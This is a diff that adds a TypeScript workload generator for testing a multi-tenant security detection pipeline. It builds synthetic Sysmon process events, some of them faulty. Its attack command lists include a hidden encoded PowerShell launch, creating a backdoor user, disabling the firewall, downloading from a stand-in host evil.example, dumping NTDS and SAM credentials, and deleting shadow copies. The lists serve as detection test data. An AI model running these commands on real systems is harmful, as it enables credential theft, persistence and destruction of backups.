@@ -1,0 +1,240 @@
+import { ALERTS_SILENCES, MODELS_PROMOTED, RULES_PUBLISHED, TELEMETRY_RAW } from '../../src/domain/contracts.gen.ts';
+import { memoryCodec } from '../../src/memory/codec.ts';
+import type { Send } from '../../src/ports.ts';
+import { CONTROL_HEADER, controlText } from '../../src/runner/watermark.ts';
+import { partitioner } from '../../src/runner/wire-key.ts';
+import type { Plan } from './plan.ts';
+import { Random } from './random.ts';
+import { LATENESS_MS, SKEW_MS, VERSIONS } from './rooms.ts';
+
+export interface Fed {
+  /** Virtual time at which it reaches the broker. */
+  readonly at: number;
+  readonly record: Send;
+}
+
+export interface Workload {
+  readonly feeds: readonly Fed[];
+  /** Ids of the events that can be read, each with its tenant. */
+  readonly events: ReadonlyMap<string, string>;
+  /** What makes the outcome depend on more than the order of the raw log. */
+  readonly hasLate: boolean;
+}
+
+export const TENANTS = ['acme', 'globex'] as const;
+/** Machines of both tenants bear the same names: what is joined by name alone is joined wrongly. */
+const HOSTS = ['ws-1', 'ws-2', 'dc-1'];
+const USERS = ['CORP\\anna', 'CORP\\boris'];
+const CALM = ['notepad.exe report.txt', 'excel.exe budget.xlsx', 'tasklist.exe', 'ipconfig.exe /all'];
+const LOOKING = [
+  'whoami.exe /all',
+  'net.exe group "domain admins" /domain',
+  'nltest.exe /domain_trusts',
+  'systeminfo.exe',
+];
+const STEPS = [
+  'powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
+  'schtasks.exe /create /tn upd /tr C:\\Users\\Public\\a.exe /sc onlogon /ru system',
+  'net.exe user evil P@ss /add',
+  'netsh.exe advfirewall set allprofiles state off',
+  'psexec.exe \\\\dc-1 -s cmd.exe',
+  'bitsadmin.exe /transfer j http://evil.example/x.exe C:\\x.exe',
+];
+const SEVERE = [
+  'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Temp\\copy" q q',
+  'reg.exe save HKLM\\SAM C:\\Temp\\sam',
+  'vssadmin.exe delete shadows /all /quiet',
+];
+const RULES = [
+  'powershell-hidden',
+  'ntds-extract',
+  'risk-threshold',
+  'critical-detection',
+  'attack-progress',
+  'entity-spread',
+];
+
+interface Draft {
+  readonly id: string;
+  readonly tenant: string;
+  readonly host: string;
+  readonly user: string;
+  readonly command: string;
+  readonly time: number;
+}
+
+/** What the world sends in one history, and when. The source of it all is the seed. */
+export function workloadOf(plan: Plan, startMs: number): Workload {
+  const random = new Random(plan.seed, 'workload');
+  const { faults } = plan;
+  const drafts = draftsOf(plan, startMs, random);
+  const feeds: Fed[] = [];
+  let hasLate = false;
+  for (const draft of drafts) {
+    const shuffle = faults['shuffled-events'] > 0 ? random.between(0, LATENESS_MS * 0.6) : random.between(0, 20);
+    const isLate = random.chance(0.1 * faults['late-events']);
+    const isFuture = random.chance(0.05 * faults['future-events']);
+    hasLate ||= isLate;
+    const at = draft.time + shuffle + (isLate ? random.between(LATENESS_MS, 30_000) : 0);
+    const claimed = isFuture ? at + random.between(SKEW_MS + 1000, 1e10) : draft.time;
+    const record = rawRecord({ ...draft, time: Math.floor(claimed) }, plan, random);
+    feeds.push({ at, record });
+    // within the time that late events are waited for, else the copy would be one
+    if (random.chance(0.2 * faults['duplicate-events']))
+      feeds.push({ at: at + random.between(0, LATENESS_MS * 0.3), record });
+  }
+  for (let i = 0; i < drafts.length * 0.15 * faults['bad-records']; i++)
+    feeds.push({ at: startMs + random.between(0, plan.spanMs), record: badRecord(plan, random) });
+  feeds.push(...tableFeeds(plan, startMs, random));
+  if (plan.mode === 'replay') feeds.push(...progress(plan, startMs));
+  const ordered = feeds.map((fed, place) => ({ fed, place })).sort((a, b) => a.fed.at - b.fed.at || a.place - b.place);
+  return {
+    feeds: ordered.map(({ fed }) => fed),
+    events: new Map(drafts.map(({ id, tenant }) => [id, tenant])),
+    hasLate,
+  };
+}
+
+function draftsOf(plan: Plan, startMs: number, random: Random): readonly Draft[] {
+  const drafts: Draft[] = [];
+  const add = (time: number, tenant: string, host: string, command: string, kind = 'e') =>
+    drafts.push({ id: `${kind}-${tenant}-${drafts.length}`, tenant, host, user: random.pick(USERS), command, time });
+  const anyTime = () => startMs + random.between(0, plan.spanMs);
+  while (drafts.length < plan.events) {
+    const [tenant, host] = [random.pick(TENANTS), random.pick(HOSTS)];
+    const dice = random.next();
+    if (dice < 0.5) add(anyTime(), tenant, host, random.pick(CALM));
+    else if (dice < 0.65) add(anyTime(), tenant, host, random.pick(SEVERE));
+    else if (dice < 0.8) {
+      // an attack in steps, now and then over two machines
+      let time = anyTime();
+      for (const command of random.shuffled(STEPS).slice(0, random.int(2, 5))) {
+        add(time, tenant, random.chance(0.2) ? random.pick(HOSTS) : host, command);
+        time += random.between(200, 6000);
+      }
+    } else {
+      let time = anyTime();
+      for (const command of random.shuffled(LOOKING)) {
+        time += random.between(50, 1500);
+        add(time, tenant, host, command);
+      }
+    }
+  }
+  if (plan.faults.poison > 0) {
+    add(anyTime(), random.pick(TENANTS), random.pick(HOSTS), random.pick(STEPS), 'poison-features');
+    add(anyTime(), random.pick(TENANTS), random.pick(HOSTS), random.pick(STEPS), 'poison-inference');
+  }
+  return drafts.sort((a, b) => a.time - b.time);
+}
+
+const partitionOf = partitioner();
+const headers = (of: Readonly<Record<string, string>>) =>
+  Object.fromEntries(Object.entries(of).map(([name, text]) => [name, Buffer.from(text)]));
+
+function rawRecord({ id, tenant, host, user, command, time }: Draft, plan: Plan, random: Random): Send {
+  const line = {
+    ts: new Date(time).toISOString(),
+    host,
+    channel: 'Microsoft-Windows-Sysmon/Operational',
+    provider: 'Microsoft-Windows-Sysmon',
+    event_id: 1,
+    data: {
+      ProcessId: '4711',
+      Image: `C:\\Windows\\System32\\${command.split(' ')[0]}`,
+      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
+      CommandLine: command,
+      User: user,
+    },
+  };
+  const { raw } = plan.partitions;
+  const partition = plan.faults.scatter > 0 ? random.int(0, raw - 1) : partitionOf(`${tenant}/${host}`, raw);
+  const value = Buffer.from(JSON.stringify(line));
+  return {
+    topic: TELEMETRY_RAW.name,
+    partition,
+    key: null,
+    value,
+    headers: headers({ 'tenant-id': tenant, ce_id: id }),
+  };
+}
+
+function badRecord(plan: Plan, random: Random): Send {
+  const to = { topic: TELEMETRY_RAW.name, partition: random.int(0, plan.partitions.raw - 1), key: null };
+  const tenant = random.pick(TENANTS);
+  const text = Buffer.from('Nov 26 12:00:00 ws-9 sshd[1]: nothing of note');
+  return random.pick<Send>([
+    { ...to, value: null, headers: headers({ 'tenant-id': tenant }) },
+    { ...to, value: text, headers: {} },
+    { ...to, value: Buffer.from([0, 0, 0, 0, 99, 1, 2]), headers: headers({ 'tenant-id': tenant }) },
+    { ...to, value: Buffer.from([0, 1]), headers: headers({ 'tenant-id': tenant }) },
+    { ...to, value: text, headers: headers({ 'tenant-id': 'No Tenant' }) },
+  ]);
+}
+
+const codec = memoryCodec();
+
+function tableFeeds(plan: Plan, startMs: number, random: Random): readonly Fed[] {
+  const feeds: Fed[] = [];
+  const at = () => startMs + random.between(0, plan.spanMs);
+  const table = (topic: string, key: string, value: unknown): Send => ({
+    ...{ topic, partition: 0, key: Buffer.from(key), headers: {} },
+    value: value === null ? null : codec.encode(topic, value),
+  });
+  const changes = plan.faults['table-change'] > 0 ? random.int(1, 5) : 0;
+  for (let i = 0; i < changes; i++) {
+    const [id, tenant] = [random.pick(RULES), random.pick(['', ...TENANTS])];
+    const status = random.pick(['disabled', 'shadow', 'enabled'] as const);
+    const rule = { id, tenant, version: '1', status, text: '', time: 0 };
+    feeds.push({ at: at(), record: table(RULES_PUBLISHED.name, `${tenant}/${id}`, random.chance(0.2) ? null : rule) });
+    const name = random.pick(['vedette-forest', 'vedette-sequence']);
+    const model = {
+      name,
+      tenant,
+      version: random.pick(VERSIONS),
+      sha256: '',
+      featureHash: '',
+      promotedBy: '',
+      time: 0,
+    };
+    if (random.chance(0.5)) feeds.push({ at: at(), record: table(MODELS_PROMOTED.name, `${tenant}/${name}`, model) });
+  }
+  if (plan.faults.silence > 0) {
+    const [tenant, entity] = [random.pick(TENANTS), random.pick(HOSTS)];
+    const silence = {
+      id: 's1',
+      tenant,
+      kind: 'silence',
+      alert: '',
+      rule: '',
+      entity,
+      from: 0,
+      until: 0,
+      author: 'a',
+      reason: '',
+    };
+    feeds.push({ at: at(), record: table(ALERTS_SILENCES.name, `${tenant}/s1`, silence) });
+  }
+  return feeds;
+}
+
+/** The source of a replay says how far it is; at last, that nothing more comes. */
+function progress(plan: Plan, startMs: number): readonly Fed[] {
+  const feeds: Fed[] = [];
+  const say = (at: number, watermark: number) => {
+    for (let partition = 0; partition < plan.partitions.raw; partition++) {
+      const text = controlText({ sender: 'source/0', senders: 1, watermark, losses: {} });
+      const record = {
+        topic: TELEMETRY_RAW.name,
+        partition,
+        key: null,
+        value: null,
+        headers: headers({ [CONTROL_HEADER]: text }),
+      };
+      feeds.push({ at, record });
+    }
+  };
+  const end = startMs + plan.spanMs + 40_000;
+  for (let at = startMs; at < end; at += 5000) say(at, at);
+  say(end + 20_000, Number.POSITIVE_INFINITY);
+  return feeds;
+}
